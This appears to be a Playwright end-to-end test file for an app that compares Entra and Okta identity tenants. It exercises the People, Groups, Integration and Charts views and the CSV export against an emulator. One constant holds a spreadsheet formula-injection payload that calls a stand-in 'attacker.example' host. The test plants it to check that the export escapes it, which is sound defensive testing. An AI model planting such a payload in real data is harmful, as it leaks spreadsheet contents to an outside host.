/**
 * The side-by-side screens as a consultant uses them, in browser mode against the emulator's
 * `broken` tenant pair collected by the app itself, at 1024 and 1440 px: People (the grid by
 * keyboard, a person's detail with both records, search across both sides, the status and
 * mismatch filters, sort), Groups, Integration and Charts, each shown twice in a row and again
 * after a reload, with nothing out of place and the emulator's planted problems where they
 * belong; the way from a finding to the person it names and back; and the CSV of the view,
 * with a display name shaped as a spreadsheet formula written as text. Screenshots are kept
 * with the results.
 */
import { readFile } from 'node:fs/promises'
import type { Locator, Page, TestInfo } from '@playwright/test'
import type { Emulator } from '../emulator/index'
import { UNLIMITED_OKTA_RATE_LIMITS } from '../emulator/okta/rate-limit'
import type { AnswerKeyEntry } from '../emulator/scenarios/types'
import { useEmulator } from './emulator-host'
import { expect, test } from './fixtures'
import { collectedWorkspace } from './pages/collect-page'
import { WorkbenchPage } from './pages/workbench-page'
import { captureScreen, layoutProblems } from './screens'

const CARDS = '.gr-detail, .in-pair, .wb-chart, .wb-card'
const FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Nestor")'

async function look(page: Page, testInfo: TestInfo, name: string): Promise<void> {
  expect(await layoutProblems(page, CARDS), name).toEqual([])
  await captureScreen(page, testInfo, name)
}

function watchProblems(page: Page): string[] {
  const problems: string[] = []
  page.on('pageerror', (error) => problems.push(error.message))
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(message.text())
  })
  return problems
}

/** The planted problem's subjects of one source and type, by name. */
function planted(
  answerKey: readonly AnswerKeyEntry[],
  problem: string,
  source: 'entra' | 'okta',
  type: string,
): string[] {
  const entry = answerKey.find((e) => e.problem === problem)
  if (!entry) throw new Error(`the scenario plants no ${problem}`)
  return entry.subjects
    .filter((s) => s.source === source && s.type === type)
    .map((s) => s.name ?? s.id)
}

interface Plants {
  /** the Okta login that is not the person's Entra UPN (upn-login-mismatch) */
  login: string
  /** the Entra UPN of that person */
  upn: string
  /** the Okta IdP whose client ID names no app registration (idp-client-id-unknown) */
  unknownClientIdp: string
  /** the AADSTS codes of the planted failed Entra sign-ins */
  signInCodes: string[]
  /** every failed Entra sign-in of the tenant */
  failedSignIns: number
}

function plantsOf(scenario: Emulator['scenario']): Plants {
  const answerKey = scenario.answerKey
  const [login = ''] = planted(answerKey, 'upn-login-mismatch', 'okta', 'user')
  const [upn = ''] = planted(answerKey, 'upn-login-mismatch', 'entra', 'user')
  const [unknownClientIdp = ''] = planted(answerKey, 'idp-client-id-unknown', 'okta', 'idp')
  const signInCodes = answerKey
    .filter((e) => e.problem.startsWith('entra-signin-'))
    .map((e) => e.problem.replace('entra-signin-', 'AADSTS'))
  const failedSignIns = scenario.entra.signIns.filter((s) => s.status?.errorCode).length
  return { login, upn, unknownClientIdp, signInCodes, failedSignIns }
}

/** The number a status checkbox's label gives, e.g. 3 for "Ambiguous (3)". */
async function statusCount(checkbox: Locator): Promise<number> {
  const label = await checkbox.locator('xpath=..').innerText()
  return Number(/\(([\d,]+)\)$/.exec(label.trim())?.[1]?.replace(/,/g, '') ?? Number.NaN)
}

/** The People grid's visible status cells (the column after the name). */
function statusCells(workbench: WorkbenchPage) {
  return workbench.peopleGrid().locator('[role="row"][data-row] [data-col="1"]')
}

/** People: the grid, the keyboard, a person, search, filters and sort. */
async function people(page: Page, workbench: WorkbenchPage, plants: Plants, name: string) {
  const testInfo = test.info()
  await workbench.go('People')
  const [shown, total] = await workbench.shownPeople()
  expect(shown).toBe(total)
  expect(total).toBeGreaterThan(200)
  const grid = workbench.peopleGrid()
  await expect(grid.locator('[data-row="3"]')).toBeVisible()
  await look(page, testInfo, `people-${name}`)

  // the keyboard: one tab stop, arrows between cells, End and Home along the row, Enter opens
  await grid.locator('[data-row="0"] [data-col="0"]').focus()
  await expect(grid.locator('[tabindex="0"]')).toHaveCount(1)
  await page.keyboard.press('ArrowDown')
  await expect(grid.locator('[data-row="1"] [data-col="0"]')).toBeFocused()
  await page.keyboard.press('ArrowRight')
  await expect(grid.locator('[data-row="1"] [data-col="1"]')).toBeFocused()
  await page.keyboard.press('End')
  const last = Number(await grid.getAttribute('aria-colcount')) - 1
  await expect(grid.locator(`[data-row="1"] [data-col="${last}"]`)).toBeFocused()
  // scrolled sideways, the names stay at the grid's left edge, drawn over the other cells
  await expect.poll(() => grid.evaluate((el) => el.scrollLeft)).toBeGreaterThan(0)
  const gridLeft = (await grid.boundingBox())!.x
  for (const row of [0, 1, 2]) {
    const box = (await grid.locator(`[data-row="${row}"] [data-col="0"]`).boundingBox())!
    expect(Math.abs(box.x - gridLeft)).toBeLessThan(3)
    const onTop = await page.evaluate(
      `document.elementFromPoint(${box.x + box.width / 2}, ${box.y + box.height / 2})?.getAttribute('data-col')`,
    )
    expect(onTop).toBe('0')
  }
  await look(page, testInfo, `people-sideways-${name}`)
  await page.keyboard.press('Home')
  await expect(grid.locator('[data-row="1"] [data-col="0"]')).toBeFocused()
  await page.keyboard.press('PageDown')
  const paged = Number(await page.locator(':focus').locator('xpath=..').getAttribute('data-row'))
  expect(paged).toBeGreaterThan(5)
  await page.keyboard.press('Control+End')
  await expect(grid.locator(`[data-row="${total - 1}"] [data-col="0"]`)).toBeFocused()
  // scrolling alone, without a key or a click, draws the rows it brings into view
  await expect(grid.locator('[data-row="3"]')).toHaveCount(0)
  await grid.evaluate((el) => (el.scrollTop = 0))
  await expect(grid.locator('[data-row="3"] [data-col="0"]')).toBeVisible()
  await expect(grid.locator('[data-row="3"] [data-col="0"]')).not.toHaveText('')
  await page.keyboard.press('Control+Home')
  await expect(grid.locator('[data-row="0"] [data-col="0"]')).toBeFocused()
  await page.keyboard.press('Enter')
  const detail = workbench.personDetail()
  await expect(detail).toBeVisible()
  await expect(detail.getByRole('heading', { name: 'What each key finds' })).toBeVisible()
  await expect(detail.getByText('Entra user', { exact: true })).toBeVisible()
  await captureScreen(page, testInfo, `person-${name}`)
  await page.keyboard.press('Escape')
  await expect(detail).toBeHidden()

  // search across both sides: the Okta login finds the person whose Entra UPN differs
  const search = page.getByRole('searchbox', { name: 'Search both sides' })
  await search.fill(plants.login)
  await expect(page.getByTestId('people-count')).toHaveText(`Showing 1 of ${total} people`)
  await grid.locator('[data-row="0"] [data-col="0"]').click()
  await expect(detail.locator('.pp-facts')).toContainText(plants.login)
  await expect(detail.locator('.pp-facts')).toContainText(plants.upn)
  await detail.getByRole('button', { name: 'Close' }).click()
  await expect(detail).toBeHidden()
  await search.fill('')
  const everyone = `Showing ${total} of ${total} people`
  await expect(page.getByTestId('people-count')).toHaveText(everyone)

  // by status: as many rows as the status counts, each saying so
  const ambiguous = page.getByRole('checkbox', { name: /^Ambiguous \(\d+\)$/ })
  const few = await statusCount(ambiguous)
  expect(few).toBeGreaterThan(0)
  await ambiguous.check()
  await expect(page.getByTestId('people-count')).toHaveText(`Showing ${few} of ${total} people`)
  for (const text of await statusCells(workbench).allInnerTexts()) expect(text).toBe('Ambiguous')
  await ambiguous.uncheck()

  // only where the sides differ
  const differs = page.getByRole('checkbox', { name: 'Only where it differs' })
  await differs.check()
  await expect(page.getByTestId('people-count')).not.toHaveText(everyone)
  const [differ] = await workbench.shownPeople()
  expect(differ).toBeGreaterThan(0)
  expect(differ).toBeLessThan(total)
  await expect(grid.locator('.pp-cell--diff').first()).toBeVisible()
  await look(page, testInfo, `people-differ-${name}`)
  await differs.uncheck()
  await expect(page.getByTestId('people-count')).toHaveText(everyone)

  // sort by name, both ways
  const nameHeader = grid.getByRole('columnheader', { name: 'Name', exact: true })
  await nameHeader.click()
  await expect(nameHeader).toHaveAttribute('aria-sort', 'ascending')
  // rows take reused slots, so the page's order is not the grid's: read them by row index
  const names = async () =>
    grid.locator('[role="row"][data-row]').evaluateAll((rows) =>
      rows
        .map((r) => ({
          at: Number(r.getAttribute('data-row')),
          name: r.querySelector('[data-col="0"]')?.textContent?.trim() ?? '',
        }))
        .sort((a, b) => a.at - b.at)
        .map((r) => r.name),
    )
  const byName = (a: string, b: string) => a.localeCompare(b, 'en', { sensitivity: 'base' })
  // the sorted rows reach the slots after the header says so: wait for the first five
  const firstFive = async () => (await names()).slice(0, 5)
  const sorted = (list: string[]) => [...list].sort(byName)
  await expect
    .poll(async () => {
      const five = await firstFive()
      return five.length === 5 && five.join('|') === sorted(five).join('|')
    })
    .toBe(true)
  const up = await firstFive()
  await nameHeader.click()
  await expect(nameHeader).toHaveAttribute('aria-sort', 'descending')
  await expect
    .poll(async () => {
      const five = await firstFive()
      return five.length === 5 && five.join('|') === sorted(five).reverse().join('|')
    })
    .toBe(true)
  expect(await firstFive()).not.toEqual(up)
}

async function groups(page: Page, workbench: WorkbenchPage, name: string) {
  await workbench.go('Groups')
  const table = page.locator('.gr-table')
  await expect(table).toContainText('O365-Licensed')
  await expect(table).toContainText('same AD group')
  await expect(page.locator('.gr-detail').first()).toBeVisible()
  // both sides' members were read: each group's detail says who is on one side only, or
  // that both hold the same people
  await expect(page.getByText('not collected')).toHaveCount(0)
  for (const detail of await page.locator('.gr-detail').all())
    await expect(detail).toContainText(/The same [\d,]+ people on both sides\.|Only in Entra/)
  await look(page, test.info(), `groups-${name}`)
}

async function integration(page: Page, workbench: WorkbenchPage, plants: Plants, name: string) {
  await workbench.go('Integration')
  const pairs = page.getByTestId('integration-pair')
  await expect(pairs.first()).toBeVisible()
  expect(await pairs.count()).toBeGreaterThan(10)
  await expect(page.locator('tr[data-status="ok"]').first()).toBeVisible()
  // the IdP whose client ID names no app registration: its Client ID line is red, with its finding
  const title = new RegExp(`↔ ${plants.unknownClientIdp.replace(/[()]/g, '\\$&')} `)
  const pair = page
    .locator('.in-pair')
    .filter({ has: page.getByRole('heading', { level: 3, name: title }) })
  const clientId = pair.locator('tr', { has: page.getByRole('rowheader', { name: 'Client ID' }) })
  await expect(clientId).toHaveAttribute('data-status', 'problem')
  await expect(clientId.getByRole('link').first()).toBeVisible()
  await look(page, test.info(), `integration-${name}`)
}

async function charts(page: Page, workbench: WorkbenchPage, plants: Plants, name: string) {
  await workbench.go('Charts')
  for (const heading of [
    'Credential expiry, both sides',
    'Provisioning outcomes by day',
    'Okta app users by sync state',
    'Entra sign-in failures by AADSTS code',
    'Okta sign-in failures by reason',
  ])
    await expect(page.getByRole('heading', { level: 2, name: heading })).toBeVisible()
  await expect(page.locator('.wb-chart svg').first()).toBeVisible()
  // each chart's numbers are in a table for screen readers
  await expect(page.locator('.wb-chart caption')).toHaveCount(5)
  // every failed sign-in is counted, under its AADSTS code or with the other causes
  const signIns = page.locator('section[aria-labelledby="chart-entra-signins"] table')
  const codes = await signIns.locator('thead th').allInnerTexts()
  for (const code of plants.signInCodes)
    expect(codes, code).toContain(codes.includes(code) ? code : 'other causes')
  const counts = (await signIns.locator('tbody td').allInnerTexts()).map((t) =>
    Number(t.replace(/,/g, '')),
  )
  expect(counts.reduce((a, b) => a + b, 0)).toBe(plants.failedSignIns)
  await look(page, test.info(), `charts-${name}`)
}

test.describe('Side by side against the emulator', () => {
  test.describe.configure({ timeout: 300_000 })
  const emulators = useEmulator('broken', {
    // each test collects the tenant pair anew; pacing under rate limits is not the subject here
    oktaRateLimits: UNLIMITED_OKTA_RATE_LIMITS,
    // the scenario's today is the app's, so its System Log falls in the week the app reads
    now: new Date().toISOString(),
  })

  for (const width of [1024, 1440]) {
    test(`People, Groups, Integration and Charts at ${width} px, twice in a row and after a reload`, async ({
      page,
      workspaces,
    }) => {
      const problems = watchProblems(page)
      const emulator = emulators.current
      const plants = plantsOf(emulator.scenario)
      await page.setViewportSize({ width, height: 800 })
      await workspaces.open()
      await collectedWorkspace(workspaces, emulator, `Northwind ${width}`)
      const workbench = new WorkbenchPage(page)
      for (const pass of ['first', 'again']) {
        const name = `${width}-${pass}`
        await people(page, workbench, plants, name)
        await groups(page, workbench, name)
        await integration(page, workbench, plants, name)
        await charts(page, workbench, plants, name)
      }
      await page.reload()
      await expect(page.locator('[data-app-state="ready"]')).toBeVisible()
      await charts(page, workbench, plants, `${width}-reloaded`)
      await integration(page, workbench, plants, `${width}-reloaded`)
      await groups(page, workbench, `${width}-reloaded`)
      await people(page, workbench, plants, `${width}-reloaded`)
      expect(problems).toEqual([])
    })
  }

  test('from a finding and from a group to the person and back; the CSV of the view, formula-safe', async ({
    page,
    workspaces,
  }, testInfo) => {
    const problems = watchProblems(page)
    const emulator = emulators.current
    const plants = plantsOf(emulator.scenario)
    // a display name a spreadsheet would run as a formula
    const nestor = emulator.scenario.entra.users.find((u) => u.userPrincipalName === plants.upn)
    if (!nestor?.id) throw new Error(`no Entra user ${plants.upn}`)
    emulator.mutate.entra.update('users', nestor.id, { displayName: FORMULA })
    // and someone who left the pushed group in Okta only
    const field = (record: unknown, name: string) =>
      (record as { profile?: Record<string, unknown> } | undefined)?.profile?.[name]
    const pilot = emulator.scenario.okta.groups.find((g) => field(g, 'name') === 'Teams-Pilot')
    const [leaver, ...stayers] = emulator.scenario.okta.groupMembers[String(pilot?.id)] ?? []
    const leaverLogin = field(
      emulator.scenario.okta.users.find((u) => u.id === leaver),
      'login',
    )
    if (!pilot || !leaver) throw new Error('the scenario pushes Teams-Pilot with members')
    emulator.mutate.okta.setMembers(String(pilot.id), stayers)
    await workspaces.open()
    await collectedWorkspace(workspaces, emulator, 'Northwind links')
    const workbench = new WorkbenchPage(page)

    await workbench.go('Findings')
    await page.getByRole('searchbox').fill('ImmutableID')
    await page
      .locator('.wb-findings__list .wb-list__item', { hasText: 'immutable-id-mismatch' })
      .first()
      .click()
    const title = await page.locator('#finding-title').innerText()
    const findingUrl = page.url()
    await page.getByTestId('subject-people-link').first().click()
    const detail = workbench.personDetail()
    await expect(detail).toBeVisible()
    await expect(page).toHaveURL(/\/people\?(entra|okta)=/)
    await expect(detail.locator('.pp-pairs__diff').first()).toBeVisible()
    await captureScreen(page, testInfo, 'person-from-finding')
    const personUrl = page.url()
    await detail.getByTestId('person-finding').filter({ hasText: title }).click()
    await expect(page.getByRole('heading', { level: 2, name: title })).toBeVisible()
    // the way back is the way in: the person, then the finding
    await page.goBack()
    await expect(page).toHaveURL(personUrl)
    await expect(detail).toBeVisible()
    await page.goBack()
    await expect(page).toHaveURL(findingUrl)
    await expect(page.locator('#finding-title')).toHaveText(title)

    // from a group to the person who is in it on one side only
    await workbench.go('Groups')
    const pilotDetail = page.locator('.gr-detail', { hasText: 'Teams-Pilot ↔' })
    await expect(
      pilotDetail.getByRole('heading', { level: 3, name: 'Only in Entra (1)' }),
    ).toBeVisible()
    await pilotDetail.getByRole('link').first().click()
    await expect(detail).toBeVisible()
    await expect(detail.locator('.pp-facts')).toContainText(String(leaverLogin))
    await captureScreen(page, testInfo, 'person-from-group')
    await page.goBack()
    await expect(page.getByRole('heading', { level: 1, name: 'Groups' })).toBeVisible()

    // the CSV of the current view: the header, then one record per person shown
    await workbench.go('People')
    const exportCsv = async () => {
      const downloading = page.waitForEvent('download')
      await page.getByRole('button', { name: 'Export CSV' }).click()
      const download = await downloading
      expect(download.suggestedFilename()).toMatch(/^crosswalk-people-\d{4}-\d\d-\d\d\.csv$/)
      return readFile((await download.path()) ?? '', 'utf8')
    }
    const ambiguous = page.getByRole('checkbox', { name: /^Ambiguous \(\d+\)$/ })
    const shown = await statusCount(ambiguous)
    await ambiguous.check()
    await expect(page.getByTestId('people-count')).toHaveText(new RegExp(`^Showing ${shown} of `))
    const records = (await exportCsv()).split('\r\n').filter(Boolean)
    expect(records[0]).toMatch(/^Name,Status,Key,Class,Entra userPrincipalName,Okta login,/)
    expect(records).toHaveLength(shown + 1)
    expect(records.slice(1).every((r) => r.includes(',Ambiguous,'))).toBe(true)
    await ambiguous.uncheck()

    // the formula is in the grid as the tenant wrote it, and in the CSV as text
    await page.getByRole('searchbox', { name: 'Search both sides' }).fill(plants.login)
    await expect(page.getByTestId('people-count')).toHaveText(/^Showing 1 of /)
    await expect(workbench.peopleGrid().locator('[data-row="0"] [data-col="0"]')).toHaveText(
      FORMULA,
    )
    const csv = await exportCsv()
    const [, person] = csv.split('\r\n')
    expect(person?.startsWith(`"'${FORMULA.replace(/"/g, '""')}",`)).toBe(true)
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@]/)
    expect(problems).toEqual([])
  })
})
